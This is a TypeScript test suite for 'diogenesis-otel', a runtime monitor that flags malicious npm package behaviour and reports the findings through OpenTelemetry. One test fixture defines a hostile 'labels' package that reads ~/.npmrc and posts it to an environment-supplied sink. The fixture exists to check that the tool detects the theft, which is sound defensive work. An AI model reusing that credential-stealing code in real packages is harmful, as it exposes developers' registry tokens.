import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type OtlpReceiver, startOtlpReceiver } from '../support/otlp-receiver.ts';
import { HONEST, VictimApp } from '../support/victim-app.ts';

const ACT = `
const { context, trace } = require('@opentelemetry/api');
const labels = require('labels');
const request = (run) => trace.getTracer('app').startActiveSpan('GET /labels', { kind: 1 }, async (span) => {
  await run();
  span.end();
});`;

const END = 'request(() => labels.act()).then(() => sdk.shutdown());';

/** Runs one set-up and hands over what arrived. */
async function withApp(
  main: string,
  env: NodeJS.ProcessEnv,
  check: (receiver: OtlpReceiver, app: VictimApp) => void | Promise<void>,
  args: readonly string[] = [],
  file = 'main.js',
): Promise<void> {
  await using app = await VictimApp.create();
  const receiver = await startOtlpReceiver();
  try {
    app.write(file, main);
    const ran = await app.run([...args, file], {
      OTEL_EXPORTER_OTLP_ENDPOINT: receiver.url,
      OTEL_EXPORTER_OTLP_PROTOCOL: 'http/json',
      OTEL_SERVICE_NAME: 'victim',
      ...env,
    });
    assert.equal(ran.code, 0, ran.stderr);
    assert.equal(app.received.length, 1, 'the app does what it did');
    await check(receiver, app);
  } finally {
    await receiver.close();
  }
}

/** The ALERT that every set-up must bring: on the act's span, on the request's span, as a log record. */
function assertTold(receiver: OtlpReceiver, { isSampled = true } = {}): void {
  const spans = receiver.spans();
  const act = spans.find((span) => span.name === 'net.connect' && span.events.length > 0);
  assert.ok(act, `a net.connect span with an event among ${spans.map(({ name }) => name)}`);
  assert.equal(act.scope, 'diogenesis-otel');
  assert.equal(act.kind, 3);
  const event = act.events.find(({ attributes }) => attributes['diogenesis.finding.level'] === 'ALERT');
  assert.ok(event);
  assert.equal(event.name, 'diogenesis.finding');
  assert.equal(event.attributes['diogenesis.package.name'], 'labels');
  assert.equal(event.attributes['diogenesis.finding.pattern'], 'data_exfiltration');
  if (isSampled) {
    const request = spans.find((span) => span.name === 'GET /labels');
    assert.ok(request);
    assert.equal(request.attributes['diogenesis.threat.level'], 'ALERT');
    assert.ok(Number(request.attributes['diogenesis.finding.count']) >= 1);
    assert.ok(request.events.some(({ attributes }) => attributes['diogenesis.finding.level'] === 'ALERT'));
    assert.equal(act.traceId, request.traceId);
  }
  const log = receiver.logs().find(({ attributes }) => attributes['diogenesis.finding.level'] === 'ALERT');
  assert.ok(log);
  assert.equal(log.eventName, 'diogenesis.finding');
  assert.equal(log.severityNumber, 17);
  assert.equal(JSON.stringify([spans, receiver.logs()]).includes('canary'), false, 'no secret leaves');
  const exporting = spans.filter(({ attributes }) => String(attributes['diogenesis.package.name']).includes('otlp'));
  assert.deepEqual(exporting, [], 'no feedback: the exporter makes no spans of its own connections');
}

function assertFindingsCounted(receiver: OtlpReceiver): void {
  const points = receiver.metric('diogenesis.findings');
  const alert = points.find(({ attributes }) => attributes['diogenesis.finding.level'] === 'ALERT');
  assert.equal(alert?.value, 1);
  assert.equal(alert?.attributes['diogenesis.package.name'], 'labels');
}

const NODE_SDK = `const { NodeSDK } = require('@opentelemetry/sdk-node');`;
const DIOGENESIS = `const { withDiogenesis, createDiogenesis } = require('diogenesis-otel');`;

describe('a finding reaches the backend', () => {
  it('through withDiogenesis with everything configured by environment', () =>
    withApp(
      `${NODE_SDK}${DIOGENESIS}
       const sdk = new NodeSDK(withDiogenesis({}));
       sdk.start();
       ${ACT}${END}`,
      { OTEL_METRICS_EXPORTER: 'otlp' },
      (receiver) => {
        assertTold(receiver);
        assertFindingsCounted(receiver);
      },
    ));

  it('through withDiogenesis with an exporter, a sampler and processors of the user', () =>
    withApp(
      `${NODE_SDK}${DIOGENESIS}
       const { OTLPTraceExporter } = require('@opentelemetry/exporter-trace-otlp-http');
       const { SimpleSpanProcessor, AlwaysOnSampler } = require('@opentelemetry/sdk-trace');
       let ended = 0;
       const mine = { onStart() {}, onEnd() { ended++; }, forceFlush: async () => {}, shutdown: async () => {} };
       const sdk = new NodeSDK(withDiogenesis({
         spanProcessors: [mine, new SimpleSpanProcessor({ exporter: new OTLPTraceExporter() })],
         sampler: new AlwaysOnSampler(),
       }));
       sdk.start();
       ${ACT}
       request(() => labels.act()).then(() => sdk.shutdown()).then(() => { if (ended < 2) process.exit(9); });`,
      {},
      (receiver) => assertTold(receiver),
    ));

  it('through withDiogenesis with a trace exporter of the user', () =>
    withApp(
      `${NODE_SDK}${DIOGENESIS}
       const { OTLPTraceExporter } = require('@opentelemetry/exporter-trace-otlp-http');
       const sdk = new NodeSDK(withDiogenesis({ traceExporter: new OTLPTraceExporter() }));
       sdk.start();
       ${ACT}${END}`,
      {},
      (receiver) => assertTold(receiver),
    ));

  for (const sampler of ['always_off', 'traceidratio']) {
    it(`although the sampler ${sampler} of the environment drops the trace`, () =>
      withApp(
        `${NODE_SDK}${DIOGENESIS}
         const sdk = new NodeSDK(withDiogenesis({}));
         sdk.start();
         ${ACT}${END}`,
        { OTEL_TRACES_SAMPLER: sampler, OTEL_TRACES_SAMPLER_ARG: '0' },
        (receiver) => {
          assertTold(receiver, { isSampled: false });
          assert.equal(
            receiver.spans().some(({ name }) => name === 'GET /labels'),
            false,
            'the sampler still decides',
          );
        },
      ));
  }

  it('although the sampler of the user drops the trace', () =>
    withApp(
      `${NODE_SDK}${DIOGENESIS}
       const { AlwaysOffSampler } = require('@opentelemetry/sdk-trace');
       const sdk = new NodeSDK(withDiogenesis({ sampler: new AlwaysOffSampler() }));
       sdk.start();
       ${ACT}${END}`,
      {},
      (receiver) => assertTold(receiver, { isSampled: false }),
    ));

  it('from the pieces in a hand-built provider that is not global', () =>
    withApp(
      `${DIOGENESIS}
       const { TracerProvider, SimpleSpanProcessor, AlwaysOnSampler } = require('@opentelemetry/sdk-trace');
       const { OTLPTraceExporter } = require('@opentelemetry/exporter-trace-otlp-http');
       const { AsyncLocalStorageContextManager } = require('@opentelemetry/context-async-hooks');
       const { registerInstrumentations } = require('@opentelemetry/instrumentation');
       const api = require('@opentelemetry/api');
       const { LoggerProvider, SimpleLogRecordProcessor } = require('@opentelemetry/sdk-logs');
       const { OTLPLogExporter } = require('@opentelemetry/exporter-logs-otlp-http');
       const logs = new LoggerProvider({ processors: [new SimpleLogRecordProcessor({ exporter: new OTLPLogExporter() })] });
       api.logs.setGlobalLoggerProvider(logs);
       api.context.setGlobalContextManager(new AsyncLocalStorageContextManager().enable());
       const diogenesis = createDiogenesis();
       const provider = new TracerProvider({
         sampler: diogenesis.sampler(new AlwaysOnSampler()),
         spanProcessors: [diogenesis.spanProcessor, new SimpleSpanProcessor({ exporter: new OTLPTraceExporter() })],
       });
       registerInstrumentations({ instrumentations: diogenesis.instrumentations, tracerProvider: provider });
       const labels = require('labels');
       provider.getTracer('app').startActiveSpan('GET /labels', { kind: 1 }, async (span) => {
         await labels.act();
         span.end();
         await provider.forceFlush(); await logs.forceFlush();
         await diogenesis.shutdown();
       });`,
      {},
      (receiver) => assertTold(receiver),
    ));

  for (const flag of ['--require', '--import']) {
    it(`with ${flag} diogenesis-otel/register, in an app with an SDK of its own`, () =>
      withApp(
        `${NODE_SDK} const sdk = new NodeSDK(); sdk.start(); ${ACT}${END}`,
        {},
        (receiver) => assertTold(receiver),
        [flag, 'diogenesis-otel/register'],
      ));

    it(`with ${flag} diogenesis-otel/register, in an app without any SDK, configured by OTEL_*`, () =>
      withApp(
        `require('labels').act();`,
        {},
        (receiver) => {
          assert.ok(receiver.spans().some((span) => span.name === 'net.connect' && span.events.length > 0));
          assert.ok(receiver.logs().some(({ attributes }) => attributes['diogenesis.finding.level'] === 'ALERT'));
        },
        [flag, 'diogenesis-otel/register'],
      ));
  }

  it('in an ES module app', () =>
    withApp(
      `import labels from 'labels'; await labels.act();`,
      {},
      (receiver) =>
        assert.ok(receiver.logs().some(({ attributes }) => attributes['diogenesis.finding.level'] === 'ALERT')),
      ['--import', 'diogenesis-otel/register'],
      'main.mjs',
    ));
});

describe('without any SDK', () => {
  it('findings reach the file, the API and stderr', async () => {
    await using app = await VictimApp.create();
    app.write(
      'main.js',
      `const { alerts } = require('diogenesis-otel');
       require('labels').act().then(() => console.log(JSON.stringify(alerts().map(({ level, principal }) => [level, principal.key]))));`,
    );
    const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js']);
    assert.equal(ran.code, 0, ran.stderr);
    const alert = app.findings().find(({ level }) => level === 'ALERT');
    assert.equal(alert?.package.name, 'labels');
    assert.deepEqual(alert?.chain, ['labels@1.0.1', '<app>']);
    assert.ok(JSON.parse(ran.stdout).some(([level, key]: string[]) => level === 'ALERT' && key === 'labels@1.0.1'));
    assert.match(ran.stderr, /diogenesis ALERT data_exfiltration labels@1\.0\.1/);
  });

  it('an honest version raises nothing above LOG', async () => {
    await using app = await VictimApp.create();
    app.labels('1.0.0', HONEST);
    app.write('main.js', `require('labels').act();`);
    const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js']);
    assert.equal(ran.code, 0, ran.stderr);
    assert.deepEqual(
      app.findings().filter(({ level }) => level !== 'LOG'),
      [],
    );
    assert.equal(ran.stderr, '');
  });

  for (const [how, client] of [
    ['calls back', `(url, body) => fetch(url, { method: 'POST', body })`],
    ['awaits', `async (url, body) => { await null; await fetch(url, { method: 'POST', body }); }`],
  ] as const) {
    it(`a package that lets a function of the app carry a secret away is named: one that it ${how}`, async () => {
      await using app = await VictimApp.create();
      app.labels(
        '1.0.1',
        `exports.act = async (post) => {
           const secret = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
           await post(process.env.SINK, secret);
         };`,
      );
      app.write('client.js', `module.exports = ${client};`);
      app.write('main.js', `require('labels').act(require('./client.js'));`);
      const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js']);
      assert.equal(ran.code, 0, ran.stderr);
      assert.equal(app.received.length, 1);
      const alert = app.findings().find(({ level }) => level === 'ALERT');
      assert.equal(alert?.package.name, 'labels', ran.stderr);
    });
  }

  it('an exporter of its own serves a collector of the security team', async () => {
    await using app = await VictimApp.create();
    const receiver = await startOtlpReceiver();
    try {
      app.write('main.js', `require('labels').act();`);
      const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js'], {
        DIOGENESIS_OTLP_ENDPOINT: receiver.url,
      });
      assert.equal(ran.code, 0, ran.stderr);
      assert.ok(receiver.logs().some(({ attributes }) => attributes['diogenesis.finding.level'] === 'ALERT'));
      assert.ok(receiver.spans().some(({ events }) => events.length > 0));
      assert.equal(receiver.metric('diogenesis.findings').length > 0, true);
      assert.deepEqual(
        app.findings().filter(({ package: { name } }) => name.startsWith('@opentelemetry')),
        [],
        'no feedback from its own connections',
      );
    } finally {
      await receiver.close();
    }
  });

  it('an exporter of its own that cannot connect says one line and harms nobody', async () => {
    await using app = await VictimApp.create();
    app.write('main.js', `require('labels').act().then(() => console.log('done'));`);
    const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js'], {
      DIOGENESIS_OTLP_ENDPOINT: 'http://127.0.0.1:9',
      OTEL_EXPORTER_OTLP_TIMEOUT: '500',
    });
    assert.equal(ran.code, 0, ran.stderr);
    assert.equal(ran.stdout, 'done\n');
    assert.equal(ran.stderr.match(/could not be sent/g)?.length ?? 0, 1, ran.stderr);
  });
});

describe('without a collector where one should be', () => {
  const timed = async (app: VictimApp, env: Record<string, string>): Promise<number> => {
    const begin = performance.now();
    const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js'], { DIOGENESIS_QUIET: '1', ...env });
    assert.deepEqual([ran.code, ran.stdout], [0, 'done\n'], ran.stderr);
    return performance.now() - begin;
  };

  for (const [what, env] of [
    ['the SDK', { OTEL_EXPORTER_OTLP_ENDPOINT: 'http://127.0.0.1:9' }],
    ['an exporter of its own', { DIOGENESIS_OTLP_ENDPOINT: 'http://127.0.0.1:9' }],
  ] as const) {
    it(`${what} holds up the end of a process that found something for some seconds at the most`, async () => {
      await using app = await VictimApp.create();
      app.write('main.js', `require('labels').act().then(() => console.log('done'));`);
      // An exporter that gives up after its ten seconds would take longer.
      assert.ok((await timed(app, env)) < 7_000);
      assert.ok(app.findings().some(({ level }) => level === 'ALERT'));
    });
  }

  it('a process that found nothing ends at once, and loads no SDK', async () => {
    await using app = await VictimApp.create();
    app.write(
      'main.js',
      `process.on('exit', () => {
         const loaded = Object.keys(require.cache).filter((file) => file.includes('sdk-node'));
         console.log(loaded.length === 0 ? 'done' : loaded[0]);
       });`,
    );
    await timed(app, { OTEL_SERVICE_NAME: 'shop' });
  });
});
